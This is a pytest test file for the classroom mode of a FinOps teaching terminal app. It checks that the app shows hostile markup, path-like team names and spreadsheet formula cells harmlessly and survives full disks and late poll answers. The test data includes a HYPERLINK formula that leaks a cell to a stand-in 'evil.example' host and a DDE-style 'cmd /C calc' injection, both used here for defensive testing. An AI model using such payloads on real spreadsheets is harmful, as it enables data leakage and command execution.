"""A class no one can knock over: hostile text, polls, late joiners, full disks, formulas.

Real hosts on 127.0.0.1 (port 0) with asyncssh clients where the issue is about what
people see over SSH; Textual's Pilot for the apps themselves where that is faster.
"""

from __future__ import annotations

import asyncio
import csv
import errno
import time

import pytest
from textual.widgets import DataTable, Input

from finops_tui.content import classroom as classroom_content
from finops_tui.content import classroom as classroom_module
from finops_tui.content.classroom import Broadcast, ClassDir, Control, Poll, TeamStatus
from finops_tui.content.errors import ContentError
from finops_tui.content.saves import SaveStore
from finops_tui.content.saves import files as save_files_module
from finops_tui.engine import plan_decisions, play
from finops_tui.ui.classroom import link as link_module
from finops_tui.ui.classroom.facilitator import FacilitatorApp
from finops_tui.ui.classroom.hosted import sorry
from finops_tui.ui.classroom.link import PollScreen
from finops_tui.ui.classroom.scoreboard import ScoreboardApp
from finops_tui.ui.screens.report import ReportScreen
from finops_tui.ui.screens.turn import TurnScreen
from finops_tui.ui.textual_fixes import notification_messages, notification_titles
from tests.functional_tests import test_host as hosting
from tests.functional_tests.test_classroom import new_class, team_app
from tests.functional_tests.test_host import connect, read_until
from tests.functional_tests.waiting import settle_turn, wait_for

host = hosting.host  # the fixture: a real class host on 127.0.0.1, port 0

HOSTILE = "[/b]Spend [b]less[/] now[/]"  # closing tags with nothing open: a MarkupError
WAIT = 30.0


async def open_session(server, user: str, password: str | None = None, size=(110, 34)):
    conn = await connect(server, user, password)
    process = await conn.create_process(term_type="xterm-256color", term_size=size, encoding=None)
    return conn, process


async def type_text(process, text: str) -> None:
    """Keys as a person types them: a pause now and then so none is dropped."""
    for char in text:
        process.stdin.write(char.encode())
        await asyncio.sleep(0.01)


async def drain(process, quiet: float = 0.3, timeout: float = 5.0) -> None:
    """Read what the terminal already said, so the next wait sees only what comes after."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            chunk = await asyncio.wait_for(process.stdout.read(65536), timeout=quiet)
        except TimeoutError:
            return
        if not chunk:
            return


async def facilitator_poll(process, question: str, choices: str) -> None:
    """Open a poll from the console as the facilitator would: p, the fields, enter."""
    await drain(process)
    process.stdin.write(b"p")
    await read_until(process, b"A quick poll for every team")
    await type_text(process, question)
    await read_until(process, question.encode())
    process.stdin.write(b"\t")  # to the kind
    await asyncio.sleep(0.2)
    process.stdin.write(b"\t")  # to the choices
    await asyncio.sleep(0.2)
    await type_text(process, choices)
    await read_until(process, choices.encode())
    process.stdin.write(b"\r")
    await read_until(process, b"Poll ")  # the console's "Poll N is open" or "Poll: ..."


async def still_running(server, users: set[str], seconds: float = 2.0) -> None:
    """Every one of `users` keeps its session for `seconds` (a crash would end it)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        assert users <= {s.user for s in server.sessions}, {s.user for s in server.sessions}
        await asyncio.sleep(0.2)


# -- item 4: text from the facilitator is text --------------------------------------------


async def test_markup_in_a_broadcast_and_a_poll_reaches_everyone_as_typed(host):
    class_dir: ClassDir = host.config.class_dir
    class_dir.write_control(Control(phase="playing", open_turn=1))
    _, team = await open_session(host, "blue")
    await read_until(team, b"Enter: read the briefing")
    _, projector = await open_session(host, "projector")
    await read_until(projector, b"Class scoreboard")
    _, console = await open_session(host, "facilitator", "s3cret")
    await read_until(console, b"Facilitating tutorial")

    await drain(console)
    console.stdin.write(b"b")
    await read_until(console, b"A message for every team")
    await type_text(console, HOSTILE)
    console.stdin.write(b"\r")
    shown = f"Facilitator: {HOSTILE}".encode()
    await read_until(projector, shown)
    await read_until(team, b"[/b]Spend [b]less")  # the notification, as typed

    await facilitator_poll(console, "Who pays [/]?", "IT [/b];Finance [red]")
    await read_until(team, b"Poll from the facilitator: Who pays [/]?")
    await read_until(projector, b"Poll: Who pays [/]? (0 answers)")
    await still_running(host, {"blue", "projector", "facilitator"})
    team.stdin.write(b"\x1b[B\r")  # down, enter: "Finance [red]"
    poll_id = class_dir.control().poll.id
    deadline = time.monotonic() + WAIT
    while class_dir.poll_answers(poll_id) != {"blue": "Finance [red]"}:
        assert time.monotonic() < deadline, class_dir.poll_answers(poll_id)
        await asyncio.sleep(0.1)
    await read_until(projector, b"(1 answers)")
    await still_running(host, {"blue", "projector", "facilitator"}, seconds=1.0)


async def test_a_reconnecting_projector_is_not_crashed_by_the_text_kept_in_control(host):
    class_dir: ClassDir = host.config.class_dir
    class_dir.write_control(
        Control(
            broadcasts=[Broadcast(id=1, text=HOSTILE, at=0.0)],
            poll=Poll(id=2, question="[/]", choices=["[/b]", "[@click=app.screenshot]x[/]"]),
        )
    )
    for _ in range(2):  # every reconnect reads the same control.json
        conn, projector = await open_session(host, "projector")
        screen = await read_until(projector, b"Poll: [/] (0 answers)")
        assert b"Traceback" not in screen and b"MarkupError" not in screen
        assert f"Facilitator: {HOSTILE}".encode() in screen
        await still_running(host, {"projector"}, seconds=1.0)
        conn.close()
        await asyncio.sleep(0.3)


# -- items 5 and 6: polls -----------------------------------------------------------------


async def test_a_second_poll_is_shown_and_counted_apart(host):
    class_dir: ClassDir = host.config.class_dir
    class_dir.write_control(Control(phase="playing", open_turn=1))
    _, team = await open_session(host, "blue")
    await read_until(team, b"Enter: read the briefing")
    _, console = await open_session(host, "facilitator", "s3cret")
    await read_until(console, b"Facilitating tutorial")

    await facilitator_poll(console, "First question", "A;B")
    await read_until(team, b"Poll from the facilitator: First question")
    first = class_dir.control().poll.id
    team.stdin.write(b"\r")  # "A"
    await wait_for(lambda: class_dir.poll_answers(first) == {"blue": "A"})
    console.stdin.write(b"P")  # end the poll
    await wait_for(lambda: class_dir.control().poll is None)

    await facilitator_poll(console, "Second question", "C;D")
    await read_until(team, b"Poll from the facilitator: Second question")
    second = class_dir.control().poll.id
    assert second != first
    team.stdin.write(b"\x1b[B\r")  # "D"
    await wait_for(lambda: class_dir.poll_answers(second) == {"blue": "D"})
    assert class_dir.poll_answers(first) == {"blue": "A"}  # the first poll's answer stays its own
    await read_until(console, b"Poll: Second question (1 answers)")


async def test_a_team_that_joins_during_a_poll_is_asked(host):
    class_dir: ClassDir = host.config.class_dir
    class_dir.write_control(
        Control(phase="playing", open_turn=1, poll=Poll(id=7, question="Late?", choices=["y", "n"]))
    )
    conn, team = await open_session(host, "green")
    await read_until(team, b"Poll from the facilitator: Late?")
    conn.close()
    await asyncio.sleep(0.5)
    _, again = await open_session(host, "green")  # came back without answering: asked again
    await read_until(again, b"Poll from the facilitator: Late?")
    again.stdin.write(b"\r")
    await wait_for(lambda: class_dir.poll_answers(7) == {"green": "y"})


async def test_a_stale_poll_dialog_is_closed_and_its_answer_never_counts(tmp_path):
    class_dir = new_class(tmp_path)
    first = Poll(id=1, question="Old question", choices=["a", "b"])
    class_dir.write_control(Control(poll=first))
    app = team_app(class_dir, "blue")
    async with app.run_test(size=(100, 30)) as pilot:
        await wait_for(lambda: isinstance(app.screen, PollScreen) and app.screen.poll.id == 1)
        second = Poll(id=2, question="New question", choices=["c", "d"])
        class_dir.write_control(class_dir.control().model_copy(update={"poll": second}))
        await wait_for(lambda: isinstance(app.screen, PollScreen) and app.screen.poll.id == 2)
        assert len([s for s in app.screen_stack if isinstance(s, PollScreen)]) == 1
        # An answer from a dialog of poll 1 that arrives now counts nowhere.
        app.class_follower._answered(first, "a")
        await pilot.pause()
        assert class_dir.poll_answers(1) == {} and class_dir.poll_answers(2) == {}
        assert any("had closed" in m for m in notification_messages(app))
        await pilot.press("enter")
        await pilot.pause()
        assert class_dir.poll_answers(2) == {"blue": "c"}
        assert class_dir.poll_answers(1) == {}


async def test_two_writes_in_one_tick_are_both_seen(tmp_path, monkeypatch):
    """Change detection by version, not mtime: a frozen clock cannot hide a poll."""
    class_dir = new_class(tmp_path)
    frozen = time.time()
    app = team_app(class_dir, "blue")
    async with app.run_test(size=(100, 30)):
        await wait_for(lambda: app.class_link.control is not None, what="the link's first read")
        path = class_dir.control_path
        control = class_dir.write_control(Control())
        stamp = (frozen, frozen)
        import os

        os.utime(path, stamp)
        await wait_for(lambda: app.class_link.control.version == control.version)
        poll = Poll(id=1, question="Seen?", choices=["y", "n"])
        class_dir.write_control(control.model_copy(update={"poll": poll}))
        os.utime(path, stamp)  # same mtime as the write the game already saw
        await wait_for(lambda: isinstance(app.screen, PollScreen), what="the poll")


# -- item 3: away by heartbeat ------------------------------------------------------------


def a_status(team: str, updated: float, connected: bool = True) -> TeamStatus:
    return TeamStatus(
        team=team,
        turn=1,
        turns=3,
        spend_usd=1.0,
        budget_usd=2.0,
        score=1.0,
        stars=0,
        finished=False,
        updated=updated,
        connected=connected,
    )


async def test_a_silent_team_is_shown_away_on_the_projector_and_the_console(tmp_path):
    class_dir = new_class(tmp_path)
    now = time.time()
    class_dir.write_status(a_status("frozen", now - 60))
    class_dir.write_status(a_status("alive", now))
    class_dir.write_status(a_status("left", now, connected=False))
    for app in (ScoreboardApp(class_dir), FacilitatorApp(class_dir)):
        async with app.run_test(size=(110, 30)) as pilot:
            await pilot.pause()
            table = app.query_one("#teams", DataTable)
            state = {str(table.get_row(k)[1]): str(table.get_row(k)[7]) for k in table.rows}
            assert state == {"frozen": "away", "alive": "", "left": "away"}


async def test_a_running_game_keeps_its_status_fresh(tmp_path, monkeypatch):
    monkeypatch.setattr(link_module, "HEARTBEAT_SECONDS", 0.4, raising=False)
    class_dir = new_class(tmp_path)
    app = team_app(class_dir, "blue")
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.pause()
        first = class_dir.statuses()[0].updated
        await pilot.pause(1.5)
        assert class_dir.statuses()[0].updated > first
        assert not class_dir.statuses()[0].away(time.time())


# -- item 12: a full disk degrades --------------------------------------------------------


def fill_the_disk(monkeypatch, full_disk) -> None:
    """Every write to the class folder fails: the class files and the team's autosave."""
    for module in (classroom_module, save_files_module):
        monkeypatch.setattr(module, "atomic_write_text", full_disk)


@pytest.mark.parametrize(
    "failure",
    [OSError(errno.ENOSPC, "No space left on device"), ContentError(["class: cannot save"])],
    ids=["oserror", "contenterror"],
)
async def test_a_full_class_disk_tells_the_team_once_and_the_game_goes_on(
    tmp_path, monkeypatch, failure
):
    class_dir = new_class(tmp_path)
    class_dir.write_control(Control(phase="playing", open_turn=3))
    app = team_app(class_dir, "blue")
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.pause()
        before = class_dir.status_path("blue").read_bytes()

        def full_disk(path, text):
            raise failure

        fill_the_disk(monkeypatch, full_disk)
        await pilot.press("enter", "enter")  # lobby, briefing
        for turn in (1, 2):
            await wait_for(lambda: isinstance(app.screen, TurnScreen), what=f"turn {turn}")
            await settle_turn(pilot)
            await pilot.press("n")
            await wait_for(lambda: isinstance(app.screen, ReportScreen), what=f"report {turn}")
            await pilot.press("enter")
        await wait_for(lambda: app.session.state.turn == 2, what="two turns played")

        def told() -> list[str]:
            return notification_messages(app, severity=("warning", "error"))

        await wait_for(lambda: len(told()) >= 2, what="the team told of the full disk")
        for _ in range(5):
            await pilot.pause()  # a third notice, if one were coming
        assert app.is_running
        notices = told()
        assert len(notices) == 2, notices  # once for the scoreboard, once for the autosave
        assert any("class folder cannot be written" in m for m in notices)
        assert any("Could not autosave" in m for m in notices)
        assert class_dir.status_path("blue").read_bytes() == before  # nothing half-written
    assert class_dir.status_path("blue").read_bytes() == before  # leaving did not crash either


async def test_a_full_class_disk_never_crashes_the_facilitator(tmp_path, monkeypatch):
    class_dir = new_class(tmp_path)
    app = FacilitatorApp(class_dir)
    async with app.run_test(size=(110, 30)) as pilot:
        await pilot.pause()

        def full_disk(path, text):
            raise OSError(errno.ENOSPC, "No space left on device")

        fill_the_disk(monkeypatch, full_disk)
        await pilot.press("s")  # start: control.json cannot be written
        await pilot.pause()
        await pilot.press("r")  # export: results.csv cannot be written
        await pilot.pause()
        assert app.is_running
        titles = notification_titles(app)
        assert "Not sent" in titles and "Not exported" in titles
        assert class_dir.control().phase == "lobby"
        assert not (class_dir.root / "results.csv").exists()


# -- item 4 (the rest): no traceback for a remote user ------------------------------------


async def test_a_failure_in_a_hosted_program_is_logged_and_said_in_a_sentence(
    tmp_path, capsys, monkeypatch
):
    monkeypatch.setenv("TEXTUAL", "debug,devtools")  # left in the host's environment
    class_dir = new_class(tmp_path)
    app = ScoreboardApp(class_dir)
    assert app.devtools is None and "debug" not in app.features

    def broken() -> None:
        raise RuntimeError("boom with a secret local")

    with pytest.raises(RuntimeError):
        async with app.run_test(size=(100, 30)) as pilot:
            await pilot.pause()
            app.call_later(broken)
            await pilot.pause()
    err = " ".join(capsys.readouterr().err.split())
    assert sorry("scoreboard") in err
    assert "Traceback" not in err and "boom" not in err
    log = class_dir.error_log_path.read_text(encoding="utf-8")
    assert "RuntimeError: boom with a secret local" in log and "scoreboard" in log
    assert app.return_code == 1


def test_the_error_log_stays_bounded(tmp_path):
    class_dir = ClassDir(tmp_path)
    for _ in range(200):
        class_dir.log_error("play", "x" * 10_000)
    logs = list((tmp_path / "logs").iterdir())
    assert sum(p.stat().st_size for p in logs) <= 2 * classroom_content.ERROR_LOG_BYTES


# -- item 13: no files written from the projector's palette -------------------------------


@pytest.mark.parametrize("make", [ScoreboardApp, FacilitatorApp], ids=["projector", "console"])
async def test_no_screenshot_from_a_hosted_console(tmp_path, monkeypatch, make):
    class_dir = new_class(tmp_path)
    monkeypatch.chdir(class_dir.root)
    app = make(class_dir)
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.pause()
        titles = {c.title for c in app.get_system_commands(app.screen)}
        assert "Screenshot" not in titles and "Quit" in titles
        app.action_screenshot()
        app.deliver_screenshot()
        await pilot.pause(0.3)
    assert not list(tmp_path.rglob("*.svg"))


def test_a_class_folder_refuses_team_names_that_are_paths(tmp_path):
    class_dir = ClassDir(tmp_path / "class")
    for bad in ("../x", "a/../../b", "", "Root", "facilitator", "x" * 40):
        with pytest.raises(ContentError):
            class_dir.team_dir(bad)
        with pytest.raises(ContentError):
            class_dir.status_path(bad)
        with pytest.raises(ContentError):
            class_dir.poll_answer_path(1, bad)
    (tmp_path / "class" / "teams" / "Not A Team").mkdir(parents=True)
    (tmp_path / "class" / "teams" / "blue").mkdir()
    assert class_dir.teams() == ["blue"]


# -- item 11: formula cells ---------------------------------------------------------------


async def test_formula_cells_in_results_csv_are_neutralised(host, scenarios):
    class_dir: ClassDir = host.config.class_dir
    scenario = scenarios["tutorial"]
    state = play(scenario, 1, plan_decisions(scenario, scenario.level.plans["par"]))
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    SaveStore(class_dir.team_dir("blue")).autosave(
        scenario,
        state,
        "blue",
        {"justification": evil, "reflections": {"0": "@SUM(1+1)*cmd|' /C calc'!A0"}},
    )
    _, console = await open_session(host, "facilitator", "s3cret")
    await read_until(console, b"Facilitating tutorial")
    console.stdin.write(b"r")
    await read_until(console, b"1 teams")
    with (class_dir.root / "results.csv").open(encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["justification"] == "'" + evil
    assert float(row["spend_usd"]) == round(state.spend_usd, 2)  # numbers stay numbers
    for cell in row.values():
        assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or _is_number(cell), cell


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


async def test_the_poll_form_shows_typed_text_on_the_console(tmp_path):
    """The facilitator's own console shows a poll it opened, markup and all, and keeps going."""
    class_dir = new_class(tmp_path)
    app = FacilitatorApp(class_dir)
    async with app.run_test(size=(110, 30)) as pilot:
        await pilot.press("p")
        await pilot.pause()
        await pilot.press(*"[/]")
        await pilot.press("tab", "tab")
        await pilot.press(*"[/b];[b]")
        await pilot.press("enter")
        await pilot.pause()
        assert app.screen.query_one("#poll").render()  # rendered without a MarkupError
        assert class_dir.control().poll.question == "[/]"
        assert not app.screen.query(Input)  # the form closed: the poll is open


# -- item 4 (the audit): level text and player text are shown as written -----------------

MARKUP = "[/b][@click=app.quit]x[/]"


def hostile_level(tmp_path):
    """The tutorial with markup in every text a level author (or a stranger) can write."""
    from finops_tui.content.levels import resolve_level_path

    text = resolve_level_path("tutorial").read_text(encoding="utf-8")
    for plain in (
        "First Bill: On-Demand or Spot?",
        "Train a 3B model in three months",
        "Estimate the GPU-hours",
        "The work (GPU-hours)",
        "Return on the money spent",
        "Model shipped on time",
        "Your spot job is preempted. What do you lose?",
        "The whole run",
        "The work since the last checkpoint",
        "A restart resumes",
        "Spot with hourly checkpoints, tagged",
        "On-demand, untagged",
    ):
        assert plain in text, plain
        text = text.replace(plain, f"{MARKUP} {plain} [/]", 1)
    text = text.replace('id = "tutorial"', 'id = "hostile"', 1)
    text += f'''
[[events.scheduled]]
turn = 1
kind = "message"
magnitude = 0
title = "{MARKUP} A memo [/]"
text = "[/] read me [/b]"
'''
    path = tmp_path / "hostile.toml"
    path.write_text(text, encoding="utf-8")
    return path


def visible_text(screen) -> str:
    """Every text a screen's panels, tables and lists show, as plain characters."""
    from rich.text import Text
    from textual.widgets import OptionList, Static

    parts = [getattr(w.visual, "plain", "") for w in screen.query(Static)]
    for table in screen.query(DataTable):
        for r in range(table.row_count):
            parts += [c.plain if isinstance(c, Text) else str(c) for c in table.get_row_at(r)]
    for options in screen.query(OptionList):
        for i in range(options.option_count):
            prompt = options.get_option_at_index(i).prompt
            parts.append(getattr(prompt, "plain", str(prompt)))
    return "\n".join(parts)


async def test_markup_in_level_text_and_names_is_shown_as_written(tmp_path):
    from finops_tui.ui.app import create_app
    from finops_tui.ui.screens.debrief import DebriefScreen
    from finops_tui.ui.screens.quiz import QuizScreen

    saves = tmp_path / "saves"
    saves.mkdir()
    (saves / "[b]odd[i].toml").write_text("not a save [/]", encoding="utf-8")
    app = create_app(
        level=str(hostile_level(tmp_path)),
        seed=1,
        player="[/]player",
        store=SaveStore(saves),
        animate=False,
    )
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        await pilot.press("enter")  # briefing -> turn 1
        await pilot.pause()
        for turn in range(3):
            assert isinstance(app.screen, TurnScreen)
            shown = visible_text(app.screen)
            assert f"{MARKUP} First Bill" in shown
            if turn:
                assert f"{MARKUP} A memo [/]" in shown  # the event log
            await pilot.press("n")
            await pilot.pause()
            assert isinstance(app.screen, ReportScreen)
            await pilot.press("enter")
            await pilot.pause()
        await app.workers.wait_for_complete()
        await pilot.pause()
        assert isinstance(app.screen, DebriefScreen)
        seen = visible_text(app.screen)
        for _ in range(4):
            await pilot.press("d")  # every tab of the debrief
            await pilot.pause()
            seen += visible_text(app.screen)
        assert f"{MARKUP} Return on the money spent [/]" in seen
        assert f"{MARKUP} A memo [/]" in seen
        await pilot.press("e")
        await pilot.pause()
        assert isinstance(app.screen, QuizScreen)
        seen = ""
        for _ in range(6):
            seen += visible_text(app.screen)
            await pilot.press("2", "enter")
            await pilot.pause()
        assert f"{MARKUP} Your spot job" in seen and f"{MARKUP} The whole run [/]" in seen
        app.show_title()
        await pilot.pause()
        await pilot.press("l")  # the save menu lists the odd file and says what is wrong
        await pilot.pause()
        await pilot.press("down", "up")
        await pilot.pause()
        assert "[b]odd[i]" in visible_text(app.screen)
        assert app.is_running


@pytest.mark.parametrize("program", ["scoreboard", "facilitate", "play"])
async def test_a_hosted_program_that_fails_shows_its_terminal_one_sentence(tmp_path, program):
    """On a real terminal: Textual's own traceback (locals, paths) never reaches the PTY."""
    import os
    import sys

    from finops_tui.serve.pty_process import PtyProcess

    class_dir = new_class(tmp_path)
    class_dir.write_control(Control(broadcasts=[Broadcast(id=1, text="x", at=0.0)]))
    # A program that breaks once it is running, in code no test can reach otherwise.
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    (hooks / "sitecustomize.py").write_text(
        "from finops_tui.content import classroom\n"
        "def broken(self):\n"
        "    raise RuntimeError('secret-local-value')\n"
        "classroom.ClassDir.control = broken\n"
        "classroom.parse_control = lambda raw: broken(None)\n",
        encoding="utf-8",
    )
    argv = {
        "scoreboard": ["scoreboard", "--class-dir", str(class_dir.root)],
        "facilitate": ["facilitate", "--class-dir", str(class_dir.root)],
        "play": [
            "play",
            "tutorial",
            "--seed",
            "5",
            "--player",
            "blue",
            "--saves-dir",
            str(class_dir.team_dir("blue")),
            "--class-dir",
            str(class_dir.root),
        ],
    }[program]
    out = bytearray()
    done: list[int | None] = []
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "PYTHONPATH": os.pathsep.join(
            [str(hooks), *sys.path[:0], os.environ.get("PYTHONPATH", "")]
        ),
        "TERM": "xterm-256color",
        "LANG": "C.UTF-8",
        "HOME": str(class_dir.root),
    }
    process = PtyProcess(
        [sys.executable, "-m", "finops_tui", *argv], env, (100, 30), out.extend, done.append
    )
    process.start()
    deadline = time.monotonic() + WAIT
    while not done and time.monotonic() < deadline:
        await asyncio.sleep(0.1)
    exited = bool(done)
    process.close()
    text = " ".join(hosting.ANSI.sub(b"", bytes(out)).decode(errors="replace").split())
    assert exited, text[-400:]
    assert sorry(program) in text
    assert "Traceback" not in text and "secret-local-value" not in text
    log = class_dir.error_log_path.read_text(encoding="utf-8")
    assert "RuntimeError: secret-local-value" in log
